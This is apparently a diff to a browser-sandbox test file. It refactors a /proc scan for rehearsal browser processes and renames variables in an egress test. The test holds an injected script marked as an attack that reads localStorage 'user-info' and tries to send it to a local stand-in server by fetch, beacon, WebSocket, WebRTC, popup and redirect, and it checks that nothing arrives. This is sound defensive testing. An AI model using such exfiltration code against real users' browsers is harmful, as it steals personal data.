@@ -17,7 +17,9 @@ const hasSandbox = (() => {
 
 type Seen = { type: string; user: string; seccomp: string; sandboxed: boolean };
 
-/** What runs of rehearsals' browsers right now. */
+const fieldOf = (status: string, name: string) => new RegExp(`^${name}:\\s+(\\S+)`, 'm').exec(status)?.[1] ?? '';
+
+/** What runs of rehearsals' browsers right now: those that were given a folder of a rehearsal, and what they started. */
 function browsersNow(): Seen[] {
   const read = (id: string, file: string) => {
     try {
@@ -26,38 +28,35 @@ function browsersNow(): Seen[] {
       return ''; // it has ended meanwhile
     }
   };
-  return fs
-    .readdirSync('/proc')
-    .filter((entry) => /^\d+$/.test(entry))
-    .flatMap((id) => {
-      const line = read(id, 'cmdline');
-      const status = read(id, 'status');
-      if (!line.includes('/cellar-rehearsal-') || !/chrom/i.test(/^Name:\s+(.*)$/m.exec(status)?.[1] ?? '')) return [];
-      const field = (name: string) => new RegExp(`^${name}:\\s+(\\d+)`, 'm').exec(status)?.[1] ?? '';
-      return [
-        {
-          type: /--type=(\w+)/.exec(line)?.[1] ?? 'browser',
-          user: field('Uid'),
-          seccomp: field('Seccomp'),
-          sandboxed: !line.includes('--no-sandbox'),
-        },
-      ];
-    });
+  const ids = fs.readdirSync('/proc').filter((entry) => /^\d+$/.test(entry));
+  const processes = new Map(ids.map((id) => [id, { line: read(id, 'cmdline'), status: read(id, 'status') }]));
+  const isRehearsal = (id: string): boolean => {
+    const found = processes.get(id);
+    return !!found && (found.line.includes('/cellar-rehearsal-') || isRehearsal(fieldOf(found.status, 'PPid')));
+  };
+  return [...processes]
+    .filter(([id, { status }]) => /chrom/i.test(fieldOf(status, 'Name')) && isRehearsal(id))
+    .map(([, { line, status }]) => ({
+      type: /--type=(\w+)/.exec(line)?.[1] ?? 'browser',
+      user: fieldOf(status, 'Uid'),
+      seccomp: fieldOf(status, 'Seccomp'),
+      sandboxed: !line.includes('--no-sandbox'),
+    }));
 }
 
 /** Somebody else's server, and what reached it. */
 async function elsewhere() {
-  const heard: string[] = [];
+  const received: string[] = [];
   const tcp = net.createServer((socket) => {
-    heard.push('tcp');
+    received.push('tcp');
     socket.on('error', () => undefined).end();
   });
-  const udp = dgram.createSocket('udp4', () => heard.push('udp'));
+  const udp = dgram.createSocket('udp4', () => received.push('udp'));
   tcp.listen(0, '127.0.0.1');
   udp.bind(0, '127.0.0.1');
   await Promise.all([once(tcp, 'listening'), once(udp, 'listening')]);
   return {
-    heard,
+    received,
     port: (tcp.address() as net.AddressInfo).port,
     udpPort: udp.address().port,
     close: () => [tcp.close(), udp.close()],
@@ -101,18 +100,18 @@ test.describe('rehearsal', () => {
     const foreign = await elsewhere();
     const origin = `http://127.0.0.1:${foreign.port}`;
     const attack = `
-      const told = encodeURIComponent(localStorage.getItem('user-info'));
+      const person = encodeURIComponent(localStorage.getItem('user-info'));
       const attempts = [
-        () => fetch('${origin}/fetch?' + told).catch(() => undefined), () => fetch('/console/api/remotes').catch(() => undefined), () => fetch('/metrics').catch(() => undefined),
-        () => (new Image().src = '${origin}/image'), () => navigator.sendBeacon('${origin}/beacon', told), () => new WebSocket('${origin.replace('http', 'ws')}/socket'),
-        () => navigator.serviceWorker.register('/worker.js').catch(() => undefined), () => open('${origin}/popup?' + told),
+        () => fetch('${origin}/fetch?' + person).catch(() => undefined), () => fetch('/console/api/remotes').catch(() => undefined), () => fetch('/metrics').catch(() => undefined),
+        () => (new Image().src = '${origin}/image'), () => navigator.sendBeacon('${origin}/beacon', person), () => new WebSocket('${origin.replace('http', 'ws')}/socket'),
+        () => navigator.serviceWorker.register('/worker.js').catch(() => undefined), () => open('${origin}/popup?' + person),
         () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${origin}/prefetch' })),
         async () => {
           const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${foreign.udpPort}', 'turn:127.0.0.1:${foreign.port}?transport=tcp'], username: 'a', credential: 'b' }] });
           peer.createDataChannel('x');
           await peer.setLocalDescription(await peer.createOffer());
         },
-        () => setTimeout(() => (location.href = '${origin}/leave?' + told), 1000),
+        () => setTimeout(() => (location.href = '${origin}/leave?' + person), 0),
       ];
       for (const attempt of attempts) try { attempt(); } catch {}
     `;
@@ -128,7 +127,7 @@ test.describe('rehearsal', () => {
     const watching = setInterval(() => seen.push(...browsersNow()), 50);
     const { state, findings } = await rehearsed('3.2.0').finally(() => clearInterval(watching));
     foreign.close();
-    expect(foreign.heard).toEqual([]);
+    expect(foreign.received).toEqual([]);
     expect(state).toBe('failed');
     const course = findings
       .filter(({ where }) => where === '/course')
